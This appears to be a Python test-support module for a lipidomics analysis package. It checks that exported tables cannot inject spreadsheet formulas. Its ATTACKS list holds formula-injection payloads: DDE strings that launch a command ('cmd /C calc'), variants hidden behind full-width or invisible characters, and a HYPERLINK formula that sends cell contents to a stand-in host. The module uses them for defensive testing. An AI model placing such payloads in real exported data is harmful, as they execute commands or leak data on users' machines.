"""Text that a spreadsheet could execute, and analyses that are full of it."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass

import numpy as np
import pandas as pd
from builders import build_analysis

from ganglioside.analysis import Analysis
from ganglioside.columns import FEATURES, FORMULA_STARTS_IN_NAMES

#: What must never reach a spreadsheet as it is.
ATTACKS = [
    '=cmd|" /C calc"!A0',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '+cmd|" /C calc"!A0',
    '-cmd|" /C calc"!A0',
    '=HYPERLINK("http://example.invalid?"&A1,"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "-1+1",
    "+1-1",
    "--1",
    "-NeuAc",
    "+Na-H",
    "-",
    "a;=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a;;-1+cmd",
    "=",
    "=1;=2",
    '"=cmd|" /C calc"!A0',
    '""=1+1',
    '" =1+1',
    " =1+1",
    "\u00a0@SUM(1)",
    "\ufeff=1+1",
    '\ufeff"=1+1',
    "\u200b-cmd",
    "\x00=1+1",
    "\x0b=1+1",
    "﹦1+1",
    '"＝1+1',
    'a;"=1+1',
    "a,=1+1",
    'a,"-cmd',
    "a; =1+1",
    "a\x0b=1+1",
    "a\u2028+cmd",
    "a\x85@SUM(1)",
]


HARMLESS = [
    "", "GM1(36:1;O2)", "36:1;O2", "9-O-Ac-GD3", "a, -b", "a; -b", "1e-5", "-0.5", "+3", "-1,5",
    "-1e-5", "+.5", "'", "#N/A", "x=1", "β-D, 5′", " -0.5", "'=1", '"GM1(36:1;O2)"', 'a" = b',
    "RT 5.1 min, +0.2 min from the curve", "[M-H]-",
]  # fmt: skip


def starts_a_formula(cell: str) -> bool:
    starts = (*FORMULA_STARTS_IN_NAMES, "\n", *"＝＋－＠")
    return cell.startswith(starts) and not is_number(cell)


def is_number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return text.isascii()


def hostile() -> Analysis:
    """Formula-like text in every text column, in carried ones and in headers."""
    n = len(ATTACKS)
    analysis = build_analysis(
        n,
        extra=pd.DataFrame(
            {
                "sample": ATTACKS,
                "=carried": ATTACKS,
                "mixed": pd.Series([*ATTACKS[:-2], 1, -2.5], dtype=object),
                "kind": pd.Categorical(ATTACKS),
                "number": np.linspace(-1, 1, n),
                "-number as text": pd.Series(["-0.5"] * n, dtype="str"),
            }
        ),
    )
    texts = [c for c, kind in FEATURES.items() if kind == "str"]
    features = analysis.features.assign(**{c: pd.Series(ATTACKS, dtype="str") for c in texts})
    findings = pd.DataFrame(dict.fromkeys(analysis.findings.columns, ATTACKS))
    for name, frame in (("features", features), ("findings", findings)):
        object.__setattr__(analysis, name, frame)
    return analysis


@dataclass(frozen=True)
class Dialect:
    """A program that reads text: its separator, and whether it knows quotes, inside cells too."""

    separator: str
    quotes: bool

    def cells(self, text: str) -> Iterator[str]:
        kind = csv.QUOTE_MINIMAL if self.quotes else csv.QUOTE_NONE
        lines = text.splitlines() if not self.quotes else io.StringIO(text, newline="")
        for row in csv.reader(lines, delimiter=self.separator, quoting=kind):
            yield from row


DIALECTS = [Dialect(separator, quotes) for separator in ",;\t" for quotes in (True, False)]


#: What programs take off before they look at a cell.
TAKEN_OFF = '"\t\r\n\ufeff\u200b\x00\x0b\x0c\x85\u2028\u2029'


def is_formula(cell: str) -> bool:
    """Return whether a cell is a formula once quotes and what cannot be seen are off.

    A dash or plus after a blank is one of a sentence, unless the cell is no part of one.
    """
    bare = cell.strip(TAKEN_OFF)
    blank = cell.strip(TAKEN_OFF + " \xa0")
    return (bare.startswith(tuple("+-＋－")) and not is_number(bare)) or blank.startswith(
        tuple("=@＝＠﹦")
    )
